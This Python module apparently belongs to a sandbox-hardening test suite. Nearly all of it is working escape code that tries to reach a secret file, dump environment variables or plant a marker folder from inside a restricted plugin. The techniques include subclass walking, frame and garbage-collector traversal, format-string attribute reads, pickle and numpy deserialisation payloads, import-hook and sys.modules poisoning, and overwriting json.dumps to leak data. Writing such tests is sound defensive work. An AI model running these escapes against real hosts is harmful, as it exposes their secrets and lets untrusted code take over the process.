"""Climbs out of its own scope inside the process: modules, frames, the collector's lists, builtins, pickles, import hooks.

What it finds there is the interpreter and the host's code; the prizes lie outside, and each climb ends by reaching for one.
"""

from strategy.skills.kit import Strategy, attack

__all__ = ["Strategy"]

ENVIRONMENT_NAME = "HOSTILE_TEST_SECRET"


def secret(scene):
    return f"{scene.folder}/secret.txt"


@attack("told")
def environment(scene):
    import os

    return os.environ.get(ENVIRONMENT_NAME) or " ".join(f"{name}={value}" for name, value in os.environ.items())


@attack("told")
def environment_in_c(scene):
    """The C library's own copy, whatever Python's says."""
    import ctypes

    getenv = ctypes.CDLL(None).getenv
    getenv.restype = ctypes.c_char_p
    return getenv(ENVIRONMENT_NAME.encode())


@attack("told")
def environment_on_the_stack(scene):
    """Where the kernel put it: read as memory, from the last known entry on."""
    import ctypes

    start = ctypes.c_void_p.in_dll(ctypes.CDLL(None), "environ").value
    texts, at = [], 0
    while True:
        address = ctypes.c_void_p.from_address(start + 8 * at).value
        if address is None:
            break
        texts.append(ctypes.string_at(address))
        at += 1
    return next((text for text in texts if text.startswith(ENVIRONMENT_NAME.encode())), b"")


@attack("told")
def objects_of_the_collector(scene):
    """Every text and dict that the interpreter tracks."""
    import gc

    for item in gc.get_objects():
        if type(item) is dict:
            for value in list(item.values()):
                for text in value if type(value) in (list, tuple) else [value]:
                    if type(text) in (str, bytes) and "prize-" in str(text) and "prize-{" not in str(text):
                        return text[str(text).find("prize-") :][:60]
    import os

    return next((value for value in os.environ.values() if "prize-" in value), None)


@attack("told")
def loaded_modules(scene):
    import sys

    os = sys.modules["os"]
    return os.read(os.open(secret(scene), 0), 100)


@attack("told")
def subclasses_of_everything(scene):
    """The classic way to `open` from an empty tuple."""
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            namespace = kind.__init__.__globals__
            return namespace["read"](namespace["open"](secret(scene), 0), 100)
    return None


@attack("told")
def builtins_of_a_function(scene):
    """From any function of the shell to the builtins it was made with."""
    from shell.contract import Signal

    builtins = Signal.__eq__.__globals__.get("__builtins__") or Signal.__init__.__builtins__
    table = builtins if isinstance(builtins, dict) else vars(builtins)
    with table["open"](secret(scene)) as file:
        return file.read()


@attack("told")
def format_string(scene):
    """Attributes read by a text: `str.format` walks wherever the text says."""
    table = "{0.said.__globals__[sys].modules[os].environ[" + ENVIRONMENT_NAME + "]}"
    return table.format(scene.strategy)


@attack("told")
def frames_of_the_host(scene):
    """Up the call stack into the host's own variables, and out through what it imported."""
    import sys

    frame = sys._getframe()
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            os = space.get("os")
            if os is not None and hasattr(os, "open"):
                return os.read(os.open(secret(scene), 0), 100)
        frame = frame.f_back
    return None


@attack("told")
def frame_of_an_error(scene):
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
    while frame.f_back is not None:
        frame = frame.f_back
    with frame.f_builtins["open"](secret(scene)) as file:
        return file.read()


@attack("told")
def frame_of_a_generator(scene):
    def nothing():
        yield walker.gi_frame.f_back.f_back

    walker = nothing()
    with next(walker).f_builtins["open"](secret(scene)) as file:
        return file.read()


@attack("told")
def executed_text(scene):
    space = {}
    exec(f"text = open({secret(scene)!r}).read()", space)
    return space["text"]


@attack("told")
def crafted_function(scene):
    """A function put together from a code object and somebody else's globals."""
    import sys
    import types

    code = compile("lambda path: read(open(path, 0), 100)", "x", "eval").co_consts[0]
    return types.FunctionType(code, vars(sys.modules["os"]))(secret(scene))


@attack("told")
def import_hook(scene):
    """A finder of its own, put in front: whatever the host imports later is the strategy's."""
    import sys
    from types import ModuleType

    class Finder:
        @staticmethod
        def find_spec(name, path=None, target=None):
            return None

    sys.meta_path.insert(0, Finder)
    module = ModuleType("json.tool")
    with open(secret(scene)) as file:
        module.found = file.read()
    sys.modules["json.tool"] = module
    sys.meta_path.remove(Finder)
    from json.tool import found

    return found


@attack("told")
def operator_chain(scene):
    """Names put together at run time, past any reader of the text."""
    from operator import attrgetter, methodcaller

    modules = attrgetter("modules")(__import__("s" + "ys"))
    os = modules["o" + "s"]
    return methodcaller("read", attrgetter("open")(os)(secret(scene), 0), 100)(os)


@attack("files")
def pickled_command(scene):
    import pickle

    class Command:
        def __reduce__(self):
            import os

            return os.mkdir, (f"{scene.folder}/marker",)

    pickle.loads(pickle.dumps(Command()))


@attack("files")
def numpy_pickle(scene):
    """Arrays of objects carry pickles."""
    import io

    import numpy as np

    class Command:
        def __reduce__(self):
            import os

            return os.mkdir, (f"{scene.folder}/marker",)

    stream = io.BytesIO()
    np.save(stream, np.array([Command()], dtype=object))
    stream.seek(0)
    np.load(stream, allow_pickle=True)


@attack("files")
def audit_hook(scene):
    """Told of every event of the interpreter, it acts at a moment of its own choice."""
    import sys

    done = []

    def hook(event, _):
        if event == "compile" and not done:
            done.append(1)
            import os

            os.mkdir(f"{scene.folder}/marker")

    sys.addaudithook(hook)
    compile("1", "x", "eval")


@attack("files", steps=2, alone=True)
def trace_function(scene):
    """Runs before every line of the host, between its own calls."""
    import sys

    if scene.step == 2:
        return

    def trace(*_):
        sys.setprofile(None)
        import os

        os.mkdir(f"{scene.folder}/marker")

    sys.setprofile(trace)


@attack("files")
def finalizer(scene):
    """Acts when the last reference to it goes, in whoever's hands that happens."""

    class Last:
        def __del__(self):
            import os

            os.mkdir(f"{scene.folder}/marker")

    Last()


@attack("files")
def collector_callback(scene):
    import gc

    def act(*_):
        gc.callbacks.remove(act)
        import os

        os.mkdir(f"{scene.folder}/marker")

    gc.callbacks.append(act)
    gc.collect()


@attack("files", steps=2, alone=True)
def host_code_replaced(scene):
    """Functions of the host that run after this call, with a few lines of its own in front."""
    import sys

    if scene.step == 2:
        return
    for name, module in list(sys.modules.items()):
        if name.startswith("shell.host") or name == "json":
            for attribute, function in list(vars(module).items()):
                if callable(function) and hasattr(function, "__code__") and attribute.startswith(("encode", "dumps")):
                    setattr(module, attribute, _in_front_of(function, scene))


@attack("told", alone=True)
def foreign_code_in_a_function(scene):
    """The code of one function in the place of another's: the host calls it itself."""
    import json

    def dumps(value, **_):
        with open(PATH) as file:
            return '[["BTC/USD","BUY",0.1,"MARKET",null,null,null,"SWING",0.5,"' + file.read() + '",""]]'

    json.PATH = secret(scene)
    json.dumps.__code__ = dumps.__code__
    json.dumps.__defaults__ = json.dumps.__kwdefaults__ = None
    return "here"


@attack("told")
def weak_references(scene):
    """What others hold: classes, caches, files kept open."""
    import gc
    import io

    for item in gc.get_objects():
        if isinstance(item, io.IOBase) and not item.closed and item.readable():
            item.seek(0)
            found = item.read(100)
            if found:
                return found
    with open(secret(scene)) as file:
        return file.read()


def _in_front_of(function, scene):
    def acting(*arguments, **named):
        import os

        if not os.path.exists(f"{scene.folder}/marker"):
            os.mkdir(f"{scene.folder}/marker")
        return function(*arguments, **named)

    return acting


PATH = ""
